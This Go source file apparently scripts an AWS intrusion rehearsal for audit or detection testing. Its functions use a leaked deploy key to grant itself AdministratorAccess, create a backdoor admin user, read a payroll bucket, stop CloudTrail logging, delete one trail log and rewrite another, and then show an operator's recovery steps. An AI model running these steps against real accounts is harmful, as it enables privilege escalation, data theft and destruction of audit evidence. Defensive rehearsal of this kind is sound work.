package audit

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"strings"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudtrail"
	"github.com/aws/aws-sdk-go-v2/service/cloudwatchlogs"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/sts"
	"github.com/aws/smithy-go"

	"unyo/rehearse/estate"
)

// deploy is what the deployment user does of a day.
func (p *play) deploy(ctx context.Context, day int) error {
	_, err := cloudwatchlogs.NewFromConfig(p.as(p.leaked, estate.Region)).CreateLogGroup(ctx, &cloudwatchlogs.CreateLogGroupInput{LogGroupName: aws.String(fmt.Sprint("/shop/release-", day))})
	return err
}

// tried notes a refusal, which the intruder expects, and passes on any other failure.
func (p *play) tried(what string, err error) error {
	var refusal smithy.APIError
	if errors.As(err, &refusal) && strings.HasPrefix(refusal.ErrorCode(), "AccessDenied") {
		p.refused = append(p.refused, what)
		return nil
	}
	return err
}

// intrude is the night: he looks around, is refused, makes himself administrator, and takes what he came for.
func (p *play) intrude(ctx context.Context) error {
	him := p.iam(p.leaked)
	if _, err := sts.NewFromConfig(p.as(p.leaked, estate.Region)).GetCallerIdentity(ctx, &sts.GetCallerIdentityInput{}); err != nil {
		return err
	}
	if _, err := him.ListUsers(ctx, &iam.ListUsersInput{}); err != nil {
		return err
	}
	if _, err := him.ListUserPolicies(ctx, &iam.ListUserPoliciesInput{UserName: aws.String("deploy")}); err != nil {
		return err
	}
	if _, err := p.trails(p.leaked, estate.Region).DescribeTrails(ctx, &cloudtrail.DescribeTrailsInput{}); err != nil {
		return err
	}
	_, err := p.s3(p.leaked).ListBuckets(ctx, &s3.ListBucketsInput{})
	if err := p.tried("ListBuckets", err); err != nil {
		return err
	}
	_, err = him.CreateUser(ctx, &iam.CreateUserInput{UserName: aws.String("support")})
	if err := p.tried("CreateUser", err); err != nil {
		return err
	}
	_, err = p.s3(p.leaked).GetObject(ctx, &s3.GetObjectInput{Bucket: aws.String(payroll), Key: aws.String("2026/01.csv")})
	if err := p.tried("GetObject", err); err != nil {
		return err
	}
	if _, err := p.move(ctx, 20*time.Minute); err != nil {
		return err
	}
	if _, err := him.AttachUserPolicy(ctx, &iam.AttachUserPolicyInput{UserName: aws.String("deploy"), PolicyArn: aws.String("arn:aws:iam::aws:policy/AdministratorAccess")}); err != nil {
		return err
	}
	if _, err := him.CreateUser(ctx, &iam.CreateUserInput{UserName: aws.String("support")}); err != nil {
		return err
	}
	if _, err := him.AttachUserPolicy(ctx, &iam.AttachUserPolicyInput{UserName: aws.String("support"), PolicyArn: aws.String("arn:aws:iam::aws:policy/AdministratorAccess")}); err != nil {
		return err
	}
	if p.own, err = p.keyOf(ctx, p.leaked, "support"); err != nil {
		return err
	}
	return p.steal(ctx)
}

// steal reads the payroll with the key that he gave himself.
func (p *play) steal(ctx context.Context) error {
	list, err := p.s3(p.own).ListObjectsV2(ctx, &s3.ListObjectsV2Input{Bucket: aws.String(payroll)})
	if err != nil {
		return err
	}
	for _, o := range list.Contents {
		out, err := p.s3(p.own).GetObject(ctx, &s3.GetObjectInput{Bucket: aws.String(payroll), Key: o.Key})
		if err != nil {
			return err
		}
		_, err = io.Copy(io.Discard, out.Body)
		if err := errors.Join(err, out.Body.Close()); err != nil {
			return err
		}
	}
	_, err = p.move(ctx, time.Hour+10*time.Minute) // what he did is delivered and digested
	return err
}

// tamper stops the trail, deletes a log file of the night and changes another.
func (p *play) tamper(ctx context.Context) error {
	c := p.s3(p.own)
	if _, err := p.trails(p.own, estate.Region).StopLogging(ctx, &cloudtrail.StopLoggingInput{Name: aws.String(trail)}); err != nil {
		return err
	}
	// A bucket's owner is its account, and an administrator may delete what lies there: nothing but its versions and the digests tells of it.
	files, err := p.names(ctx, "AWSLogs/"+estate.Account+"/CloudTrail/us-east-1/"+p.night.UTC().Format("2006/01/02"))
	if err != nil {
		return err
	}
	if len(files) < 2 {
		return fmt.Errorf("only %d files of the night at home", len(files))
	}
	if _, err := c.DeleteObject(ctx, &s3.DeleteObjectInput{Bucket: aws.String(archive), Key: aws.String(files[0])}); err != nil {
		return err
	}
	p.touched[files[0]] = "is not there"
	text, err := p.read(ctx, p.own, files[1])
	if err != nil {
		return err
	}
	changed, err := packed(bytes.ReplaceAll(text, []byte("support"), []byte("backups")))
	if err != nil {
		return err
	}
	if _, err := c.PutObject(ctx, &s3.PutObjectInput{Bucket: aws.String(archive), Key: aws.String(files[1]), Body: bytes.NewReader(changed)}); err != nil {
		return err
	}
	p.touched[files[1]] = "has changed"
	return nil
}

// wake is the morning: the operator sees that the trail does not log, has it log again, and takes the keys away.
func (p *play) wake(ctx context.Context) (err error) {
	if p.morning, err = p.move(ctx, 5*time.Hour); err != nil {
		return err
	}
	c := p.trails(nil, estate.Region)
	status, err := c.GetTrailStatus(ctx, &cloudtrail.GetTrailStatusInput{Name: aws.String(trail)})
	if err != nil {
		return err
	}
	p.report.Check("the trail is found stopped", false, aws.ToBool(status.IsLogging))
	if _, err := c.StartLogging(ctx, &cloudtrail.StartLoggingInput{Name: aws.String(trail)}); err != nil {
		return err
	}
	for _, x := range []struct {
		user string
		key  *key
	}{{"deploy", p.leaked}, {"support", p.own}} {
		if _, err := p.iam(nil).DeleteAccessKey(ctx, &iam.DeleteAccessKeyInput{UserName: aws.String(x.user), AccessKeyId: aws.String(x.key.id)}); err != nil {
			return err
		}
	}
	_, err = p.move(ctx, 65*time.Minute)
	return err
}
